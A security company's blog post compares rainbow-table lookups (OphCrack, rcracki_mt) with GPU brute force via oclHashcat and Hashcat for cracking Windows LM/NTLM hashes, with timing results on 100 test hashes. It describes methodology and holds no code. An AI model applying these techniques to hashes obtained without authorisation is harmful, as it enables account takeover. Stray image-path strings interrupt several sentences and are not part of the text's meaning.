Traditionally, LM hashes have been attacked with Rainbow Tables. It’s easy to create large tables of these password/hash combinations for every possible LM hash, as you only have to create them for one to seven-character combinations. Once you’ve looked up the hash halves in the tables,you toggle cases on the letters to brute force the password for the case-sensitive NTLM hash. This method works well, but disk reads can be slow and sometimes your computer is busy doing other things, so adding in LM table lookups may slow the rest of your system down. Some great advances have been made by multi-threading the table lookups. This ended up being one of the pain points in writing this blog, as I didn’t have the correct multi-threaded Rainbow Table format to use with rcrack_mt. Additionally, the table lookups were helped by the fact that I was using an SSD to house the Rainbow Tables. I included stats for rcrack_mt table look ups for comparison in the table at the end.

There are two major tradeoffs with using Rainbow Tables. The primary one being disk space. The Rainbow Tables themselves can take up a fair amount of space. I know that disk space is relatively cheap now, but five years ago this was a much bigger deal. The second tradeoff is the time it takes to initially generate the tables. If you are not getting the tables off of the internet (also time consuming), you might be taking days (possibly months) to generate the tables.

GPU Cracking

I really can’t give enough credit to the people working on the Hashcat projects. They do a great job with the software and we use it every day. We use oclHashcat to do GPU brute force attacks on the one to seven character LM hashes. Once cracked, the halves are reassembled and a toggle case attack is run with hashcat (CPU version). Using GPUs to do the brute forcing allows us to save some disk space that would typically be used by the LM tables, and it allows us to offload the cracking to our centralized system. Since we’ve scripted it all, I just pull the LM and NTLM hashes into our script and grab a cupof coffee. But does it save us any time?

Hybrid GPU Rainbow Tables

There are programs (RainbowCrack) that allow for a hybrid attack that uses GPU acceleration to do the Rainbow table lookups. I’ve heard that these programs work well, but RainbowCrack only supports the GPU acceleration through Windows, so that means we won’t be using it on our GPU cracking rig.

The Breakdown

For this test, I generated a set of 100 LM/NTLM hashes from randomly generated passwords of various lengths (a mix of 6-14 character lengths). Cracking with Rainbow Tables was done from my Windows laptop (2.70GHz Intel i7, 16 GB RAM, SSD). GPU cracking was done on our GPU cracking box (5 GPUs).

Rainbow Tables (OphCrack*)99/10024 Minutes 5 Seconds
oclHashcat/CPU Hashcat100/10018 Minutes 56 SecondsRcracki (multithreaded**)100/1005 Minutes 40 Seconds

*OphCrack 3.6.0 run with the XP Special Tables

**Rcracki_mt running with 24 threads

So after all of this effort, I can’t totally justify saying that using oclHashcat/Hashcat is faster for cracking LM hashes, but given our setup, it’s still pretty fast. That beingsaid, if you don’t have your own GPU cracking rig, you will definitely be betteroff using Rainbow tables, especially if you multi-thread it ona solid state drive.

Discover why security operations teams choose NetSPI.